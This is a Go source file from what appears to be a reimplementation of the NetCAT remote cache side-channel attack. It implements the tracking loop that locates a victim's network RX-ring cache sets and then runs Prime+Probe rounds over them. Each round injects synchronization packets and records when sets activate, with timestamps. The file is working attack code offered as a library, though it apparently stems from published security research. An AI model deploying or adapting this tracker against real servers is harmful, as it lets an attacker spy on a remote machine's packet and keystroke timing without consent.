// Package tracker implements the top-level online tracking loop: locate
// the victim's RX-ring-to-cache-set correspondence once, then repeatedly
// Prime-Probe a sliding window over it, injecting synchronization packets
// and logging activation times relative to them.
package tracker

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/nevenoomo/netcat/pkg/cacheparams"
	"github.com/nevenoomo/netcat/pkg/pattern"
	"github.com/nevenoomo/netcat/pkg/rpp"
	"github.com/nevenoomo/netcat/pkg/timing"
	"github.com/nevenoomo/netcat/pkg/tracking"
	"github.com/nevenoomo/netcat/pkg/transport"
)

// MaxFailCount bounds the retries of locate_rx and measure: beyond it the
// operation is fatal.
const MaxFailCount = 100

// Repeatings is how many full passes locate_rx collects per color before
// handing the trace to the pattern finder.
const Repeatings = pattern.Repeatings

// ErrUninitialized is returned by Track when called before Init.
var ErrUninitialized = errors.New("tracker: track() called before init()")

// ErrBuilderIncomplete is returned by Build when a required collaborator is
// missing.
var ErrBuilderIncomplete = errors.New("tracker: builder incomplete: a required collaborator is missing")

// ProbeOutcome is one SetCode's probe result within a measurement round,
// as it will be emitted to the Recorder.
type ProbeOutcome struct {
	Activated bool
	Latencies []int64
}

// Record is one measurement round: the window's probe outcomes, the sync
// status that round concluded with, and elapsed nanoseconds since
// measurement started.
type Record struct {
	Probes     []ProbeOutcome
	SyncStatus tracking.SyncStatus
	ElapsedNs  int64
}

// Builder assembles an OnlineTracker's required collaborators.
type Builder struct {
	conn     transport.CacheConnector
	sender   transport.PacketSender
	recorder transport.Recorder[Record]
	params   cacheparams.Params
	quiet    bool
	progress func(built, total int)
	onSample func(kind timing.Kind)
}

// NewBuilder starts a Builder.
func NewBuilder() *Builder { return &Builder{} }

func (b *Builder) WithCacheConnector(c transport.CacheConnector) *Builder {
	b.conn = c
	return b
}

func (b *Builder) WithPacketSender(s transport.PacketSender) *Builder {
	b.sender = s
	return b
}

func (b *Builder) WithRecorder(r transport.Recorder[Record]) *Builder {
	b.recorder = r
	return b
}

func (b *Builder) WithCacheParams(p cacheparams.Params) *Builder {
	b.params = p
	return b
}

func (b *Builder) WithQuiet(quiet bool) *Builder {
	b.quiet = quiet
	return b
}

// WithProgress registers a color-construction progress callback, forwarded
// to the RPP engine.
func (b *Builder) WithProgress(fn func(built, total int)) *Builder {
	b.progress = fn
	return b
}

// WithOnSample registers a classifier-training-sample callback, forwarded
// to the RPP engine.
func (b *Builder) WithOnSample(fn func(kind timing.Kind)) *Builder {
	b.onSample = fn
	return b
}

// Build constructs the OnlineTracker, which in turn blocks constructing
// the RPP engine (building every eviction set up front).
func (b *Builder) Build(ctx context.Context) (*Tracker, error) {
	if b.conn == nil || b.sender == nil || b.recorder == nil || b.params.BytesPerLine == 0 {
		return nil, ErrBuilderIncomplete
	}

	var opts []rpp.Option
	if b.progress != nil {
		opts = append(opts, rpp.WithProgress(b.progress))
	}
	if b.onSample != nil {
		opts = append(opts, rpp.WithOnSample(b.onSample))
	}
	engine, err := rpp.New(ctx, b.conn, b.params, b.quiet, opts...)
	if err != nil {
		return nil, fmt.Errorf("tracker: building RPP engine: %w", err)
	}

	return &Tracker{
		engine:   engine,
		sender:   b.sender,
		recorder: b.recorder,
		quiet:    b.quiet,
	}, nil
}

// Tracker is the OnlineTracker: it locates the RX-ring pattern once via
// Init, then repeatedly measures via Track.
type Tracker struct {
	engine   *rpp.Engine
	sender   transport.PacketSender
	recorder transport.Recorder[Record]
	quiet    bool

	pat  pattern.Pattern
	init bool
}

// Init runs locate_rx, retrying up to MaxFailCount times on failure.
func (t *Tracker) Init(ctx context.Context) error {
	var lastErr error
	for attempt := 0; attempt < MaxFailCount; attempt++ {
		pat, err := t.locateRX(ctx)
		if err == nil {
			t.pat = pat
			t.init = true
			return nil
		}
		lastErr = err
	}
	return fmt.Errorf("tracker: locate_rx failed after %d attempts: %w", MaxFailCount, lastErr)
}

// locateRX iterates every color's colored set codes Repeatings times,
// building a per-color trace, then hands all traces to the pattern finder.
func (t *Tracker) locateRX(ctx context.Context) (pattern.Pattern, error) {
	var traces []pattern.Trace

	for _, color := range t.engine.Colors() {
		indices := t.engine.ColoredIndices(color)
		passes := make([][]int, Repeatings)

		for r := 0; r < Repeatings; r++ {
			pass := make([]int, len(indices))
			for i, idx := range indices {
				sc := rpp.SetCode{Color: color, ColoredIndex: idx}
				if err := t.engine.Prime(ctx, sc); err != nil {
					return pattern.Pattern{}, fmt.Errorf("tracker: locate_rx: priming color %d idx %d: %w", color, idx, err)
				}
				if err := t.sender.SendPacket(ctx); err != nil {
					return pattern.Pattern{}, fmt.Errorf("tracker: locate_rx: sending sync packet: %w", err)
				}
				if err := t.sender.SendPacket(ctx); err != nil {
					return pattern.Pattern{}, fmt.Errorf("tracker: locate_rx: sending sync packet: %w", err)
				}
				result, err := t.engine.Probe(ctx, sc)
				if err != nil {
					return pattern.Pattern{}, fmt.Errorf("tracker: locate_rx: probing color %d idx %d: %w", color, idx, err)
				}
				if result.Activated {
					pass[i] = idx
				} else {
					pass[i] = -1
				}
			}
			passes[r] = pass
		}

		traces = append(traces, pattern.Trace{
			Color:        color,
			NSetsPerPage: len(indices),
			Passes:       passes,
		})
	}

	return pattern.Find(traces)
}

// Track runs Measure(cnt), retrying up to MaxFailCount times on error.
func (t *Tracker) Track(ctx context.Context, cnt int) error {
	if !t.init {
		return ErrUninitialized
	}
	var lastErr error
	for attempt := 0; attempt < MaxFailCount; attempt++ {
		if err := t.Measure(ctx, cnt); err == nil {
			return nil
		} else {
			lastErr = err
		}
	}
	return fmt.Errorf("tracker: measure failed after %d attempts: %w", MaxFailCount, lastErr)
}

// Measure implements §4.5.1: acquires an initial position, then runs cnt
// prime/inject/probe/classify/record rounds against the sliding window.
func (t *Tracker) Measure(ctx context.Context, cnt int) error {
	if !t.init {
		return ErrUninitialized
	}

	pos, err := t.acquireInitialPosition(ctx)
	if err != nil {
		return fmt.Errorf("tracker: measure: acquiring initial position: %w", err)
	}

	ctxState := tracking.New(pos)
	start := time.Now()

	for round := 0; round < cnt; round++ {
		win := t.pat.Window(ctxState.Pos())
		codes := toSetCodes(win)

		if err := t.engine.PrimeAll(ctx, codes); err != nil {
			return fmt.Errorf("tracker: measure: priming window: %w", err)
		}

		var results []rpp.ProbeResult
		for {
			if ctxState.ShouldInject() {
				if err := t.sender.SendPacket(ctx); err != nil {
					return fmt.Errorf("tracker: measure: sending sync packet: %w", err)
				}
				ctxState.Inject()
			}
			results, err = t.engine.ProbeAll(ctx, codes)
			if err != nil {
				return fmt.Errorf("tracker: measure: probing window: %w", err)
			}
			if hasActivation(results) || ctxState.IsInjected() {
				break
			}
		}

		// §9: probes[(len(win)/2)+1] — index 6 for WINDOW_SIZE=10 — is
		// checked deliberately, one slot ahead of the window's current
		// position at index 5: the expected activation lands on the
		// round after injection takes effect.
		expectedIdx := len(win)/2 + 1
		switch {
		case expectedIdx < len(results) && results[expectedIdx].Activated && ctxState.IsInjected():
			ctxState.SyncHit(t.pat.NextPos(ctxState.Pos()))
		case ctxState.IsInjected():
			recovered, err := t.pat.RecoverNext(ctxState.Pos(), activationFlags(results))
			if err != nil {
				return fmt.Errorf("tracker: measure: recovering position: %w", err)
			}
			ctxState.SyncMiss(recovered)
		default:
			ctxState.UnsyncedMeasurement()
		}

		rec := Record{
			Probes:     toProbeOutcomes(results),
			SyncStatus: ctxState.SyncStatus(),
			ElapsedNs:  time.Since(start).Nanoseconds(),
		}
		if err := t.recorder.Record(rec); err != nil {
			return fmt.Errorf("tracker: measure: recording round %d: %w", round, err)
		}
	}
	return nil
}

// acquireInitialPosition repeatedly prime-probes pattern[0], sending one
// packet between prime and probe, until an activation is observed.
func (t *Tracker) acquireInitialPosition(ctx context.Context) (int, error) {
	sc := t.pat.At(0)
	for {
		if err := t.engine.Prime(ctx, sc); err != nil {
			return 0, err
		}
		if err := t.sender.SendPacket(ctx); err != nil {
			return 0, err
		}
		result, err := t.engine.Probe(ctx, sc)
		if err != nil {
			return 0, err
		}
		if result.Activated {
			return 1, nil
		}
	}
}

func toSetCodes(win []pattern.SetCode) []rpp.SetCode {
	out := make([]rpp.SetCode, len(win))
	for i, sc := range win {
		out[i] = rpp.SetCode{Color: sc.Color, ColoredIndex: sc.ColoredIndex}
	}
	return out
}

func hasActivation(results []rpp.ProbeResult) bool {
	for _, r := range results {
		if r.Activated {
			return true
		}
	}
	return false
}

func activationFlags(results []rpp.ProbeResult) []bool {
	out := make([]bool, len(results))
	for i, r := range results {
		out[i] = r.Activated
	}
	return out
}

func toProbeOutcomes(results []rpp.ProbeResult) []ProbeOutcome {
	out := make([]ProbeOutcome, len(results))
	for i, r := range results {
		out[i] = ProbeOutcome{Activated: r.Activated, Latencies: r.Latencies}
	}
	return out
}
